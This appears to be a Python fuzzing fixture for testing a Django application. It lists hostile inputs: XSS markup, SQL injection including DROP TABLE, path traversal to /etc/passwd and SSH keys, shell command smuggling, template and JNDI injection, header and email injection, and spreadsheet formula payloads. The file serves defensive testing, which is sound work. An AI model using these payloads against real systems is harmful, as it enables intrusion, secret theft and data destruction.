"""What an attacker types. Whatever runs or is read as an element carries the word ``xssprobe``."""

from collections.abc import Callable
from datetime import date
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import Phase, given, settings
from hypothesis import strategies as st

CANARY_FILE = "pup-canary"
ELSEWHERE = "evil.invalid"
SUM_OF_TEMPLATE = "ssti62674"  # what "ssti" and twice 31337 become where a template language reads the text
# Ends an attribute of either quotes, a field, a title, a script; short enough for most fields.
BREAKER = "'\"></textarea></title></script><xssprobe>"

MARKUP = [
    "<xssprobe>",
    '"><xssprobe>',
    "'><xssprobe x='",
    "<script>xssprobe()</script>",
    "</script><script>xssprobe()</script>",
    "</textarea><xssprobe>",
    "</title><xssprobe>",
    "</option></select><xssprobe>",
    "--><xssprobe>",
    "]]><xssprobe>",
    "<img src=x onerror=xssprobe()>",
    '" onmouseover="xssprobe()" x="',
    "' autofocus onfocus='xssprobe()",
    "<svg/onload=xssprobe()>",
    "<iframe srcdoc='<xssprobe>'></iframe>",
    "<a href=javascript:xssprobe()>x</a>",
    "javascript:xssprobe()",
    "jAvAsCrIpT&colon;xssprobe()",
    "\tjava\nscript:xssprobe()",
    "data:text/html,<xssprobe>",
    "<style>@import 'http://evil.invalid/xssprobe'</style>",
    "<base href=//evil.invalid/>",
    "<object data=javascript:xssprobe()>",
    "%3Cxssprobe%3E",
    "&lt;xssprobe&gt;",
    "\\u003cxssprobe\\u003e",
    "＜xssprobe＞",
    "<ſcript>xssprobe()</ſcript>",
    "<<xssprobe>xssprobe>",
    "<xss\x00probe>",
    "<p hx-get=//evil.invalid hx-trigger=load>xssprobe",
]
SQL = [
    "' OR '1'='1",
    "1; SELECT pg_sleep(60)--",
    "') OR pg_sleep(60) IS NULL--",
    "'||(SELECT pg_sleep(60))||'",
    "1 UNION SELECT NULL,version()--",
    '"; DROP TABLE registration_client; --',
    "%' OR 1=1 --",
    "_%_%_%_%_%_%_%",
    "\\",
    "\\'",
    "$$; SELECT 1; $$",
    "E'\\\\x27",
    "{1,2}",
    "NULL",
    "a' COLLATE \"C",
    "1e309",
    "(((((((((((((((",
    "a & b | !c <-> d:*",
]
PATHS = [
    f"../../../../../../tmp/{CANARY_FILE}",
    f"..\\..\\..\\{CANARY_FILE}",
    f"/tmp/{CANARY_FILE}",
    f"....//....//{CANARY_FILE}",
    f"%2e%2e%2f%2e%2e%2f{CANARY_FILE}",
    f"..%c0%af..%c0%af{CANARY_FILE}",
    f"file:///tmp/{CANARY_FILE}",
    f"{CANARY_FILE}\x00.png",
    f"C:\\{CANARY_FILE}",
    f"|touch {CANARY_FILE}",
    f"$(touch {CANARY_FILE})",
    f"`touch {CANARY_FILE}`",
    f"; touch {CANARY_FILE} #",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "CON",
    "~root/.ssh/id_rsa",
]
TEMPLATES = [
    "ssti{{ 31337|add:31337 }}",
    "ssti{{31337*2}}",
    "ssti${31337*2}",
    "ssti#{31337*2}",
    "ssti<%= 31337*2 %>",
    "{% load log %}{% debug %}",
    "{% include 'base.html' %}",
    "{{ settings.SECRET_KEY }}",
    "%(name)s%s%n%x",
    "{0.__class__.__mro__}",
    "${jndi:ldap://evil.invalid/a}",
]
HEADERS = [
    "x\r\nX-Probe: 1",
    "x\r\n\r\n<xssprobe>",
    "x\nSet-Cookie: probe=1",
    "x%0d%0aX-Probe:%201",
    "x\u560d\u560aX-Probe: 1",
    "x\u2028X-Probe: 1",
    "x\r\nBcc: probe@evil.invalid",
    'x"; filename="y.html',
    "//evil.invalid/",
    "///evil.invalid",
    "/\\evil.invalid",
    "https:evil.invalid",
    "http://testserver@evil.invalid/",
    "//evil.invalid%2f..",
    "/%09/evil.invalid",
    "\x01https://evil.invalid",
]
UNICODE = [
    "\x00",
    "a\x00b",
    "\x1b[31m\x07\x08",
    "\u202egnp.exe",
    "\u200b\u200c\u200d\u2060\ufeff",
    "Z̸̡̛͔̮̲͉̗a̷l̵g̶o̷" * 20,
    "İstanbul ıSıL ẞß",
    "ﬁ ﷺ ㍿ Ⅷ ２０２６",
    "е\u0301" * 300,
    "😀👩‍👩‍👧‍👦🇺🇦" * 10,
    "\U0010ffff\ufffe\uffff",
    "\u0627\u0644" * 200,
    "Å Å Å",
    "\ue000\uf8ff",
    "\r",
    "\n" * 50,
    "\u2029\u0085\x0b\x0c",
    "٣١٤١٥٩٢٦٥٣٥",
    "¹²³",
    "１９９０-０１-０１",
]
FORMULAS = [
    '=HYPERLINK("http://evil.invalid","xssprobe")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
ODD = [
    "",
    " ",
    "-1",
    "0",
    "-0",
    "NaN",
    "Infinity",
    "1e999",
    "0x41",
    "1_000",
    "99999999999999999999999999999999",
    "-9223372036854775809",
    "2147483648",
    "1,5",
    "1" * 5000,
    "true",
    "null",
    "[]",
    "{}",
    "0000-00-00",
    "9999-12-31",
    "10000-01-01",
    "2026-02-30",
    "31.02.2026",
    "99.9999",
    "2026-13-45T99:99",
    "9999-12-31T23:59",
    "0001-01-01T00:00",
    "24:00",
    "-0001-01-01",
    "00000000-0000-0000-0000-000000000000",
    "A" * 100_000,
    "a@b",
    '"<xssprobe>"@example.org',
    "probny@example.org\r\nBcc: probe@evil.invalid",
    "+" + "9" * 40,
    "00000000000",
    "11111111111",
]
LISTS = {
    "markup": MARKUP,
    "sql": SQL,
    "paths": PATHS,
    "templates": TEMPLATES,
    "headers": HEADERS,
    "unicode": UNICODE,
    "formulas": FORMULAS,
    "odd": ODD,
}
FIXED = [text for texts in LISTS.values() for text in texts]

anything = st.text(st.characters(exclude_categories=["Cs"]), max_size=60)
control = st.text(st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Co", "Cn"]), min_size=1, max_size=20)
numbers = st.one_of(
    st.integers().map(str), st.floats().map(str), st.decimals().map(str), st.fractions().map(str)
)
days = st.one_of(
    st.dates().map(date.isoformat),
    st.builds("{}-{}-{}".format, st.integers(-9, 12000), st.integers(-1, 99), st.integers(-1, 99)),
    st.builds("{}.{}.{}".format, st.integers(-1, 99), st.integers(-1, 99), st.integers(-9, 12000)),
    st.datetimes().map(lambda moment: moment.isoformat()),
)
huge = st.builds(lambda text, times: text * times, st.text(min_size=1, max_size=5), st.integers(500, 5000))
wrapped = st.builds("{}{}{}".format, anything, st.sampled_from(FIXED), anything)
hostile = st.one_of(anything, control, numbers, days, huge, wrapped, st.sampled_from(FIXED))


def generated(count: int) -> list[str]:
    """``count`` texts of Hypothesis, the same in every run."""
    pool: list[str] = []

    @settings(max_examples=count // 20 + 1, derandomize=True, database=None, phases=[Phase.generate])
    @given(st.lists(hostile, min_size=25, max_size=40))
    def collect(texts: list[str]) -> None:
        pool.extend(texts)

    collect()
    return pool[:count]


def as_file(text: str) -> SimpleUploadedFile:
    """The text as a file's name and as what it holds."""
    return SimpleUploadedFile(text[:200] or "x", text.encode() or b"x", "application/pdf")


def headers_of(take: Callable[[], str]) -> dict[str, Any]:
    """A request's headers with hostile values; a server lets no line break or NUL through."""
    names = [
        "HTTP_USER_AGENT",
        "HTTP_REFERER",
        "HTTP_ACCEPT",
        "HTTP_ACCEPT_LANGUAGE",
        "HTTP_X_REQUEST_ID",
        "HTTP_X_CORRELATION_ID",
        "HTTP_X_FORWARDED_FOR",
        "HTTP_X_FORWARDED_HOST",
        "HTTP_HX_CURRENT_URL",
        "HTTP_HX_TARGET",
        "HTTP_HX_TRIGGER",
        "HTTP_ORIGIN",
        "HTTP_IF_MODIFIED_SINCE",
        "HTTP_IF_NONE_MATCH",
        "HTTP_RANGE",
        "HTTP_AUTHORIZATION",
        "HTTP_COOKIE",
    ]
    cleaned = {ord(sign): None for sign in "\r\n\x00"}
    return {name: take()[:4000].translate(cleaned).encode().decode("latin-1") for name in names}
